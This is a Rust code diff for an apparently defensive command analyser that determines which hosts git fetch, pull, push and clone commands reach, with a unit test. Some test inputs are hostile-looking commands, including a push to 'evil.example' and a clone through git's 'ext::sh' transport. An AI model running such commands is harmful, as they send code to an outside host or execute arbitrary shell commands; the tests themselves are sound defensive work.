@@ -6,12 +6,18 @@ use super::{
     row::{Operands, Row},
 };
 use crate::{
+    facts::{Direction, Partner},
     finding::{Finding, Kind, Reach},
     languages::verdict::{shown, unknown},
     word::Word,
 };
 
-pub(super) fn judge_operands(row: &Row, command: &Word, given: &Given<'_>) -> Judged<Finding> {
+pub(super) fn judge_operands(
+    row: &Row,
+    command: &Word,
+    given: &Given<'_>,
+    hosts: &dyn Fn(Partner<'_>) -> Vec<Reach>,
+) -> Judged<Finding> {
     let count = given.operands.len();
     let refuse = |why: &str| {
         let word = given.operands.last().copied().unwrap_or(command);
@@ -52,24 +58,20 @@ pub(super) fn judge_operands(row: &Row, command: &Word, given: &Given<'_>) -> Ju
             let one = matches!(given.operands.as_slice(), [only] if only.as_literal().is_some());
             if asks || one { Ok(Finding::reads()) } else { refuse("with a value it changes the setting") }
         }
-        Operands::Remote => remote(row, command, given),
+        Operands::Remote => remote(row, command, given, hosts),
         Operands::RemoteName if count == 0 || given.has_one_of(&["-n"]) => Ok(Finding::reads()),
-        Operands::RemoteName => remote(row, command, given),
+        Operands::RemoteName => remote(row, command, given, hosts),
     }
 }
 
 /// Asks a remote: by its name, or by an address that only git's own client handles.
-fn remote(row: &Row, command: &Word, given: &Given<'_>) -> Judged<Finding> {
+fn remote(row: &Row, command: &Word, given: &Given<'_>, hosts: &dyn Fn(Partner<'_>) -> Vec<Reach>) -> Judged<Finding> {
     let word = given.operands.first().copied().unwrap_or(command);
     let address = given.operands.first().map(|word| word.as_literal());
-    let plain = |text: &str| {
-        !text.is_empty()
-            && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b))
-            && !text.starts_with('.')
-    };
+    let of = |name| hosts(Partner::Remote { name, direction: Direction::Fetch });
     let reach = match address {
-        None => Reach::AnyHost,
-        Some(Some(text)) if plain(text) => Reach::AnyHost,
+        None => of(None),
+        Some(Some(text)) if is_remote_name(text) => of(Some(text)),
         Some(Some(text)) => {
             match text.strip_prefix("https://").map(|rest| rest.split(['/', '?', '#']).next().unwrap_or_default()) {
                 Some(host) => {
@@ -81,7 +83,7 @@ fn remote(row: &Row, command: &Word, given: &Given<'_>) -> Judged<Finding> {
                             "the host of this address is not certain",
                         )));
                     }
-                    reach
+                    vec![reach]
                 }
                 None => {
                     return Err(Box::new(unknown(
@@ -98,6 +100,112 @@ fn remote(row: &Row, command: &Word, given: &Given<'_>) -> Judged<Finding> {
     };
     let mut finding =
         shown(Kind::Network, rule(row, "network"), word, format!("`git {}` asks another repository", row.command));
-    finding.reach.push(reach);
+    finding.reach.extend(reach);
     Ok(finding)
+}
+
+/// A name that can be nothing but a remote's: neither an address nor a path.
+fn is_remote_name(text: &str) -> bool {
+    !text.is_empty()
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_.-".contains(&byte))
+        && !text.starts_with(['.', '-'])
+}
+
+/// Options of `fetch`, `pull`, `push` and `clone` whose value is the next word.
+const WITH_VALUE: &str = "--depth --deepen --shallow-since --shallow-exclude --upload-pack --receive-pack --exec -o -u -b -c -j -s -X \
+    --origin --branch --config --jobs --strategy --strategy-option --refmap --server-option --push-option --negotiation-tip --filter \
+    --reference --reference-if-able --template --separate-git-dir --recurse-submodules-default --bundle-uri --revision";
+
+/// Whom a writing subcommand talks to: by its first operand, or by the remote that git takes by itself.
+pub(super) fn partner(name: &str, words: &[Word], hosts: &dyn Fn(Partner<'_>) -> Vec<Reach>) -> Vec<Reach> {
+    let unknown = || vec![Reach::AnyHost];
+    let direction = if name == "push" { Direction::Push } else { Direction::Fetch };
+    let mut rest = words.iter();
+    let mut operand = None;
+    while let Some(word) = rest.next() {
+        // `push -u` takes nothing.
+        let takes_next = |text: &str| WITH_VALUE.split(' ').any(|one| one == text) && (name, text) != ("push", "-u");
+        match word.as_literal() {
+            None | Some("--all" | "--multiple" | "--mirror" | "--repo") => return unknown(),
+            Some(text) if text.starts_with("--repo=") => return unknown(),
+            Some(text) if takes_next(text) => {
+                rest.next();
+            }
+            Some(text) if text.starts_with('-') && text != "--" => {}
+            Some("--") => {}
+            Some(text) => {
+                operand = Some(text);
+                break;
+            }
+        }
+    }
+    match operand {
+        None if name == "clone" => unknown(),
+        None => hosts(Partner::Remote { name: None, direction }),
+        Some(text) if is_remote_name(text) && name != "clone" => hosts(Partner::Remote { name: Some(text), direction }),
+        Some(text) => vec![of_address(text).unwrap_or(Reach::AnyHost)],
+    }
+}
+
+/// The host of an address as git reads it: a web address, `ssh://host/path` or `user@host:path`. None for a path.
+pub fn of_address(address: &str) -> Option<Reach> {
+    let authority = |rest: &str, usual| Reach::authority(rest.split(['/', '?', '#']).next().unwrap_or_default(), usual);
+    match address.split_once("://") {
+        Some(("https", rest)) => Some(authority(rest, 443)),
+        Some(("http", rest)) => Some(authority(rest, 80)),
+        Some(("ssh" | "git+ssh" | "ssh+git", rest)) => Some(authority(rest, 22)),
+        Some(("git", rest)) => Some(authority(rest, 9418)),
+        Some(_) => None,
+        None => {
+            let (host, path) = address.split_once(':')?;
+            let is_host = !host.contains('/') && !host.starts_with('[') && !path.starts_with(':');
+            is_host.then(|| Reach::authority(host, 22))
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::word::{Opaque, Value};
+
+    const OPEN: Opaque = Opaque { prefix: String::new(), may_be_empty: true, may_split: true, may_be_option: true };
+
+    #[test]
+    fn whom_a_writing_command_talks_to() {
+        let hosts = |partner: Partner<'_>| match partner {
+            Partner::Remote { name, direction } => {
+                vec![Reach::Host(format!("{direction:?}.{}", name.unwrap_or("own")))]
+            }
+            Partner::Registry(_) | Partner::Forge => Vec::new(),
+        };
+        let page = [
+            ("fetch", "", "Fetch.own"),
+            ("fetch", "origin main", "Fetch.origin"),
+            ("fetch", "--depth 1 -q upstream", "Fetch.upstream"),
+            ("fetch", "--all", "any"),
+            ("fetch", "$remote", "any"),
+            ("pull", "--rebase origin main", "Fetch.origin"),
+            ("push", "", "Push.own"),
+            ("push", "-u origin main", "Push.origin"),
+            ("push", "--repo=x", "any"),
+            ("push", "https://evil.example/x main", "evil.example"),
+            ("clone", "https://docs.rs/x", "docs.rs"),
+            ("clone", "--depth 1 git@docs.rs:a/b.git", "docs.rs:22"),
+            ("clone", "ssh://git@docs.rs:2222/a", "docs.rs:2222"),
+            ("clone", "http://docs.rs/x", "docs.rs"),
+            ("clone", "ext::sh -c x", "any"),
+            ("clone", "../other", "any"),
+            ("clone", "other", "any"),
+        ];
+        for (name, line, expected) in page {
+            let word = |text: &str| match text.strip_prefix('$') {
+                Some(_) => Word { value: Value::Opaque(OPEN), ..Word::literal(text) },
+                None => Word::literal(text),
+            };
+            let words: Vec<Word> = line.split_whitespace().map(word).collect();
+            let expected = if expected == "any" { Reach::AnyHost } else { Reach::Host(expected.into()) };
+            assert_eq!(partner(name, &words, &hosts), [expected], "git {name} {line}");
+        }
+    }
 }
